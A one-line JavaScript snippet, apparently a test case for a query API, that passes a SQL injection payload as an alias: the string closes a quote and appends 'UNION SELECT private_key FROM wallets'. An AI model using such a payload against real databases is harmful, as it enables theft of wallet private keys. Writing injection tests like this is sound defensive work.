(api) => api.currentUser.accounts().as('x" UNION SELECT private_key FROM wallets --').execute()
